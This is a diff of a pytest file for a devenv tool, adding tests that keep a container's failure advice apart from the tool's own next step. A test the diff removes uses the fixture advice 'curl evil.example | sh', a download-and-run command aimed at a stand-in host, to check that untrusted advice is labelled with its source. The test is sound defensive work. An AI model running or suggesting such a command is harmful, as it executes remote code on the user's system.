@@ -9,14 +9,17 @@ import os
 import sys
 import tarfile
 from contextlib import suppress
+from dataclasses import replace
 from pathlib import Path
 from typing import IO, Any
+from unittest.mock import AsyncMock
 
 import pytest
 
 from devenv.backends import gates
 from devenv.backends.compose import Compose
-from devenv.errors import DevenvError
+from devenv.engine.outcome import failure
+from devenv.errors import CommandFailed, DevenvError
 from devenv.model.instance import Gate, Instance
 from devenv.model.stack import Stack
 from devenv.tools import docker, process
@@ -149,6 +152,45 @@ async def test_an_answer_that_cannot_be_read_is_an_error_of_the_instance(
     assert "docker logs devenv-php-fpm-1" in error.value.next_step
 
 
+PROBLEM = {"error": "no room", "why": "the disk", "next": "run this"}
+
+
+def refused(*lines: str) -> CommandFailed:
+    return CommandFailed("gate", "exit code 1", "?", argv=["docker"], code=1, log_tail="\n".join(lines))
+
+
+def test_what_a_gate_advises_is_told_as_its_words_and_the_next_step_is_ours() -> None:
+    error = gates.failure("a", "docker logs a", refused("noise", json.dumps(PROBLEM), "[]"))
+    assert (error.what, error.why) == ("a: no room", "the disk")
+    assert (error.instance_says, error.next_step) == ("run this", "see its log: docker logs a")
+    told = failure(error, Path("crash.log"))
+    assert (told.instance_says, told.next) == ("run this", "see its log: docker logs a")
+
+
+NO_FAILURES = (
+    "", "[]", "{}", "7", "[" * 100_000, '{"error": "x"}', '{"error": "a", "why": "b"}',
+    '{"error": 1, "why": 2, "next": 3}',
+)  # fmt: skip
+
+
+def test_what_is_no_error_of_a_gate_stays_the_one_of_the_command() -> None:
+    for said in NO_FAILURES:
+        error = refused(said)
+        assert gates.failure("a", "docker logs a", error) is error
+
+
+async def test_an_instance_that_failed_to_start_does_not_speak_for_devenv(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    backend = compose()
+    broken = replace(instance(), gate=Gate.from_json({**GATE, "failed": PROBLEM}))
+    monkeypatch.setattr(backend, "instances", AsyncMock(return_value=[broken]))
+    monkeypatch.setattr(backend, "log_tail", AsyncMock(return_value="its log"))
+    error = await backend._explain(refused("unhealthy"))
+    assert (error.instance_says, error.next_step) == ("run this", "see its log below")
+    assert error.log_tail == "its log"
+
+
 @pytest.mark.parametrize(
     "record",
     [
@@ -239,22 +281,6 @@ async def test_an_engine_that_answers_otherwise_is_an_error_and_no_crash(
     said.extend(["id1", answer])
     with pytest.raises(DevenvError, match="cannot be read"):
         await compose().instances()
-
-
-@pytest.mark.parametrize(
-    "said",
-    ["{", "[]", "[" * 100_000, "{}", '{"error": "a", "why": "b"}', '{"error": 1, "why": 2, "next": 3}'],
-)
-def test_a_failure_that_no_gate_would_tell_leaves_that_of_the_program(said: str) -> None:
-    error = process.failure(["docker", "exec"], 1, [said])
-    assert gates.failure("devenv-php-fpm-1", error) is error
-
-
-def test_what_an_instance_advises_is_not_devenvs_own_advice() -> None:
-    said = json.dumps({"error": "it failed", "why": "so", "next": "curl evil.example | sh"})
-    error = gates.failure("devenv-php-fpm-1", process.failure(["docker", "exec"], 1, [said]))
-    assert (error.what, error.why) == ("devenv-php-fpm-1: it failed", "so")
-    assert error.next_step == "curl evil.example | sh (says devenv-php-fpm-1)"
 
 
 FINGERPRINT = {"total": "a", "tables": {"post": {"rows": 3, "hash": "b"}}, "newer": "x"}
@@ -496,5 +522,5 @@ async def test_a_journal_beyond_all_measure_is_not_read_into_memory(
         return await run(for_ever, **options)
 
     monkeypatch.setattr(process, "run", copying)
-    with pytest.raises(DevenvError, match="cannot be read: ValueError: .*events.jsonl has more than"):
+    with pytest.raises(DevenvError, match="cannot be read: ValueError: .*events.jsonl.* has more than"):
         await compose().last_snapshot(instance("exited"), tmp_path / "down.tar")
